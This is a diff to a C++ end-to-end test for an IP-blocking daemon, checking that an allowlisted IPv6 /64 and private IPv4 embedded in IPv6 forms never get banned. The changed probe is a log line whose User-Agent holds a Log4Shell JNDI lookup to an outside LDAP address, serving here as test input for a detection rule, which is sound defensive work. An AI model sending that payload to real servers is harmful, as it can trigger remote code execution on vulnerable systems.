@@ -1,8 +1,8 @@
 // End to end for the never-ban set against what is actually sent (issue 12, section 1): the real
-// palisaded with the shipped sshd and nginx packs, driving the real emulator binary.
-//  - An allowlisted IPv6 host: three /.env probes from its neighbour in the same /64 must not put
-//    that /64 on the IP list (the guard passes the neighbour's /128; the list widens it), nor
-//    must a feed entry whose list item would be that /64.
+// palisaded with the shipped sshd and web-attacks packs, driving the real emulator binary.
+//  - An allowlisted IPv6 host: three Log4Shell user agents from its neighbour in the same /64
+//    must not put that /64 on the IP list (the guard passes the neighbour's /128; the list
+//    widens it), nor must a feed entry whose list item would be that /64.
 //  - Non-public IPv4 written in an IPv6 form that embeds it (::a00:1, 64:ff9b::a00:1,
 //    2002:a00:1::1, Teredo...) never becomes an access rule, and a feed range that embeds
 //    private IPv4 is dropped as never-ban.
@@ -45,14 +45,16 @@ constexpr char kNeighbour[] = "2a01:4f8:1:2::6";
 
 std::string WriteConfig(const Emulator& cf) {
   return ::palisade::testing::WriteEdgeConfig(
-      cf, cf.token_file(), {"rules/sshd.textproto", "rules/nginx.textproto"},
+      cf, cf.token_file(), {"rules/sshd.textproto", "rules/web-attacks.textproto"},
       absl::StrCat("allowlist: \"", kProtected, "\"\n",
                    "feeds { name: \"drop\" format: FEED_FORMAT_PLAIN to_edge: true }\n"));
 }
 
+// A Log4Shell lookup in the User-Agent: web-log4shell-agent blocks it through the IP list (a
+// probe in the URL only is challenged through an access rule: a page could make a reader send it).
 std::string Probe(const std::string& ip) {
-  return absl::StrCat(ip, " - - [03/Mar/2026:14:02:01 +0000] \"GET /.env HTTP/1.1\" 404 153 ",
-                      "\"-\" \"curl/8.0\"");
+  return absl::StrCat(ip, " - - [03/Mar/2026:14:02:01 +0000] \"GET / HTTP/1.1\" 404 153 ",
+                      "\"-\" \"${jndi:ldap://192.0.2.66/a}\"");
 }
 
 // Pushes `data` as the whole "drop" feed in one chunk.
@@ -105,7 +107,7 @@ class NeverBanE2eTest : public ::testing::Test {
 TEST_F(NeverBanE2eTest, TheAllowlistedIpv6HostsSlash64NeverReachesTheList) {
   const Emulator& cf = *cf_;
 
-  // nginx-scanner-probe: three probes, IP list. The neighbour first, then a control scanner in
+  // web-log4shell-agent: three probes, IP list. The neighbour first, then a control scanner in
   // another /64 whose item must arrive (so the neighbour's op has been judged by then).
   std::vector<std::string> lines;
   for (int i = 0; i < 3; ++i) lines.push_back(Probe(kNeighbour));
